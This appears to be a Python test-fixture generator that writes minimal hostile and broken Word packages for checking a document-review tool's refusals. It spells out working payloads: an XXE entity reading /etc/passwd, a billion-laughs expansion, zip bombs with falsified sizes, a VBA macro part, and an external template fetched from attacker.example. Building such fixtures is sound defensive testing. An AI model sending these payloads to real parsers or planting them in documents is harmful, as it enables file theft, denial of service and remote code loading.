"""Writes the hostile and broken drafts of this folder (run it to regenerate them).

Each case is a folder holding one draft (``draft.docx``, or ``draft.docm``)
and ``expected.txt``: what ``kplan-report review`` prints on stderr for it
(regenerate those with ``pytest tests/test_review.py --regen-review-goldens``).
The drafts are small on purpose: each is a minimal Word package with one
thing wrong, so that the check that refuses it is the one under test.

    .venv/bin/python tests/bad_drafts/make_corpus.py
"""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

HERE = Path(__file__).parent
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCUMENT = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>本文</w:t></w:r></w:p></w:body></w:document>'


def content_types(main: str = MAIN, extra: str = "") -> str:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}</Types>')


RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="word/document.xml"/></Relationships>')


def package(parts: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, date_time=(2022, 7, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data.encode() if isinstance(data, str) else data, compresslevel=9)
    return out.getvalue()


def base(**changes: bytes | str | None) -> dict[str, bytes | str]:
    parts: dict[str, bytes | str] = {"[Content_Types].xml": content_types(), "_rels/.rels": RELS,
                                     "word/document.xml": DOCUMENT}
    for name, data in changes.items():
        name = name.replace("__", "/")
        if data is None:
            parts.pop(name, None)
        else:
            parts[name] = data
    return parts


def declare_size(data: bytes, name: str, size: int) -> bytes:
    """The zip with the uncompressed size that the central directory declares for ``name`` replaced."""
    data = bytearray(data)
    pos = 0
    while True:
        pos = data.find(b"PK\x01\x02", pos)
        if pos < 0:
            raise ValueError(name)
        n = struct.unpack_from("<H", data, pos + 28)[0]
        if data[pos + 46:pos + 46 + n].decode() == name:
            struct.pack_into("<I", data, pos + 24, size)
            return bytes(data)
        pos += 46


def cases() -> dict[str, tuple[str, bytes]]:
    bomb = b"\0" * 20_000_000  # inflates about 1,000 times
    xxe = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
           f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>')
    laughs = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
              + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
              + f']>\n<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>')
    external = RELS.replace("</Relationships>",
                            '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                            'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>')
    doc_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
                'Target="file:///C:/secret.png" TargetMode="External"/></Relationships>')
    huge = package(base(**{"word__media__image1.png": b"\x89PNG" + b"x" * 1000}))
    return {
        "not-a-zip": ("draft.docx", "これは Word 文書ではありません。\n".encode()),
        "old-word-doc": ("draft.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504),
        "truncated-zip": ("draft.docx", package(base())[:200]),
        "docm-name": ("draft.docm", package(base())),
        "vba-project-part": ("draft.docx", package(base(**{"word__vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"}))),
        "macro-content-type": ("draft.docx", package(base(**{"[Content_Types].xml": content_types(
            "application/vnd.ms-word.document.macroEnabled.main+xml")}))),
        "not-word": ("draft.docx", package(base(**{"[Content_Types].xml": content_types(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")}))),
        "zip-bomb": ("draft.docx", package(base(**{"word__media__image1.png": bomb}))),
        "zip-bomb-lying-size": ("draft.docx", declare_size(package(base(**{"word__document.xml": bomb})), "word/document.xml", 1000)),
        "huge-part": ("draft.docx", declare_size(huge, "word/media/image1.png", 3_000_000_000)),
        "xxe-entity": ("draft.docx", package(base(**{"word__document.xml": xxe}))),
        "billion-laughs": ("draft.docx", package(base(**{"word__document.xml": laughs}))),
        "external-relationship": ("draft.docx", package(base(**{"_rels__.rels": external}))),
        "external-image": ("draft.docx", package(base(**{"word___rels__document.xml.rels": doc_rels}))),
        "not-a-draft": ("draft.docx", package(base())),
    }


def main() -> None:
    for name, (file, data) in cases().items():
        folder = HERE / name
        folder.mkdir(exist_ok=True)
        for old in folder.glob("draft.*"):
            old.unlink()
        (folder / file).write_bytes(data)
        print(f"{name}/{file}: {len(data):,} bytes")


if __name__ == "__main__":
    main()
